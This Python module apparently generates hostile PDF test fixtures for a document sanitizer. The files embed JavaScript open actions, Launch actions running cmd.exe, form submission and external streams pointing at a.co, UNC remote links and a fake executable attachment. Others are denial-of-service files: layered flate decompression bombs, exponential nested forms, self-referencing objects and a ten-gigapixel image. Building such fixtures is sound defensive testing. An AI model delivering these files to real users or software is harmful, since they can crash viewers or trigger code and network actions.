"""Makes PDFs that attack whoever opens them, each from a few bytes."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from reportlab.pdfgen.canvas import Canvas


def plain(pages: int = 1, *, text: str = "Contrato", size: tuple[float, float] = (595, 842)) -> bytes:
    """A well-behaved PDF, the start of most attacks."""
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=size, invariant=True)
    for page in range(pages):
        canvas.drawString(60, size[1] - 60, f"{text} {page + 1}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def changed(change: Callable[[pikepdf.Pdf], None], *, pages: int = 1, **saving: object) -> bytes:
    """A plain PDF after `change`."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain(pages))) as pdf:
        change(pdf)
        pdf.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def raw(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF from the bytes of its objects, with a right cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    top = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for number in range(1, top):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        top,
        root,
        start,
    )
    return bytes(out)


def stream(body: bytes, *, filters: bytes = b"", more: bytes = b"") -> bytes:
    named = b" /Filter " + filters if filters else b""
    return b"<< /Length %d%s %s >>\nstream\n" % (len(body), named, more) + body + b"\nendstream"


def open_action(action: pikepdf.Object) -> bytes:
    return changed(lambda pdf: pdf.Root.__setitem__("/OpenAction", action))


def javascript() -> bytes:
    return open_action(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))


def javascript_in_a_name_tree() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(script)]))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    return changed(change)


def javascript_behind_an_escaped_name() -> bytes:
    return plain_with(b"/OpenAction << /S /#4AavaScript /#4A#53 (app.alert\\(1\\)) >>")


def javascript_link() -> bytes:
    return annotated(b"/Subtype /Link /A << /S /URI /URI (JavaScript:alert\\(1\\)) >>")


def launch() -> bytes:
    return annotated(b"/Subtype /Link /A << /S /Launch /F (cmd.exe) >>")


def launch_after_a_harmless_action() -> bytes:
    return annotated(
        b"/Subtype /Link /A << /S /URI /URI (https://a.co) /Next [<< /S /Launch /F (cmd.exe) >>] >>"
    )


def submit_form() -> bytes:
    return annotated(b"/Subtype /Link /A << /S /SubmitForm /F (http://a.co) >>")


def remote_goto() -> bytes:
    return annotated(b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>")


def file_attachment() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["virus.exe"] = b"MZ"

    return changed(change)


def xfa() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    return changed(change)


def external_stream() -> bytes:
    return one_page(b"<< /Length 0 /F (http://a.co/page) >>\nstream\n\nendstream")


def rich_media() -> bytes:
    return annotated(b"/Subtype /RichMedia")


def signed() -> bytes:
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>"
    field = b"<< /FT /Sig /T (s) /V 5 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] >>"
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] /SigFlags 3 >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [6 0 R] >>",
            5: signature,
            6: field,
        }
    )


def encrypted(*, user: str, owner: str) -> bytes:
    return changed(lambda _: None, encryption=pikepdf.Encryption(user=user, owner=owner))


def zero_pages() -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        }
    )


def page_tree_loop() -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 /Parent 3 0 R >>",
        }
    )


def form_that_draws_itself() -> bytes:
    body = stream(
        b"/X Do",
        more=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 5 0 R >>", extra={5: body})


def length_that_refers_to_itself() -> bytes:
    return one_page(b"<< /Length 4 0 R >>\nstream\nq Q\nendstream")


def deep_arrays(depth: int = 200_000) -> bytes:
    return one_page(stream(b"q Q"), extra={5: b"[" * depth + b"]" * depth})


def billion_forms(levels: int = 12, each: int = 12) -> bytes:
    """Forms that draw forms: twelve to the twelfth strokes from two kilobytes."""
    forms = {}
    for level in range(levels):
        inner = b"/X Do " * each if level < levels - 1 else b"0 0 m 9 9 l S"
        resources = b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + level)
        forms[5 + level] = stream(inner, more=b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources)
    return one_page(stream(b"/X Do"), resources=b"/XObject << /X 5 0 R >>", extra=forms)


def bomb_of_layers() -> bytes:
    """Flate within flate within flate: a kilobyte that unpacks to gigabytes of page content."""
    body = _flate_of_spaces(1024**3)
    return one_page(
        stream(
            zlib.compress(zlib.compress(body, 9), 9),
            filters=b"[/FlateDecode /FlateDecode /FlateDecode]",
        )
    )


def bomb_of_one_layer() -> bytes:
    return one_page(stream(_flate_of_spaces(1024**3), filters=b"/FlateDecode"))


def bomb_in_an_object_stream() -> bytes:
    """The catalogue lies in a stream that unpacks to a gigabyte, so that opening the file unpacks it."""
    packed = _flate_of_spaces(1024**3)
    packed = zlib.compress(packed, 9)
    out = bytearray(b"%PDF-1.7\n")
    at = len(out)
    out += (
        b"2 0 obj\n"
        + stream(
            packed,
            filters=b"[/FlateDecode /FlateDecode]",
            more=b"/Type /ObjStm /N 1 /First 4",
        )
        + b"\nendobj\n"
    )
    start = len(out)
    table = b"".join(
        (kind.to_bytes(1, "big") + where.to_bytes(4, "big") + index.to_bytes(1, "big"))
        for kind, where, index in ((0, 0, 0), (2, 2, 0), (1, at, 0), (1, start, 0))
    )
    out += b"3 0 obj\n" + stream(table, more=b"/Type /XRef /W [1 4 1] /Size 4 /Root 1 0 R") + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def image_of_ten_gigapixels() -> bytes:
    image = stream(
        zlib.compress(b"\0" * 1000),
        filters=b"/FlateDecode",
        more=b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
        b"/ColorSpace /DeviceGray /BitsPerComponent 8",
    )
    return one_page(
        stream(b"500 0 0 500 0 0 cm /X Do"),
        resources=b"/XObject << /X 5 0 R >>",
        extra={5: image},
    )


def one_page(content: bytes, *, resources: bytes = b"", extra: dict[int, bytes] | None = None) -> bytes:
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>"
        % resources
    )
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: page,
            4: content,
            **(extra or {}),
        }
    )


def plain_with(catalog: bytes) -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )


def annotated(annotation: bytes) -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Rect [10 10 90 90] %s >>" % annotation,
        }
    )


def _flate_of_spaces(size: int) -> bytes:
    packer = zlib.compressobj(9)
    block = b" " * (16 * 1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()


def billion_forms_on_the_first_page() -> bytes:
    """The same strokes where only a reader of that page would meet them: the last page is blank."""
    with pikepdf.open(io.BytesIO(billion_forms())) as pdf:
        pdf.add_blank_page()
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def slow_path() -> bytes:
    """A page of strokes that costs a renderer seconds although it is small when packed."""
    curves = b"".join(
        b"%d 0 m 600 %d 0 %d 300 842 c S\n" % (n % 595, n % 842, n % 421) for n in range(2_000_000)
    )
    return one_page(stream(zlib.compress(curves), filters=b"/FlateDecode"))


def filled_form(value: str) -> bytes:
    """A form with one text field that leaves its appearance to the viewer."""

    def change(pdf: pikepdf.Pdf) -> None:
        field = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Tx,
            T=pikepdf.String("clause"),
            V=pikepdf.String(value),
            DA=pikepdf.String("/Helv 14 Tf 0 g"),
            Rect=pikepdf.Array([100, 150, 300, 200]),
            F=4,
        )
        fields = pikepdf.Array([pdf.make_indirect(field)])
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        pdf.pages[0].obj.Annots = fields
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=fields,
            NeedAppearances=True,
            DA=pikepdf.String("/Helv 0 Tf 0 g"),
            DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font)),
        )

    return changed(change)
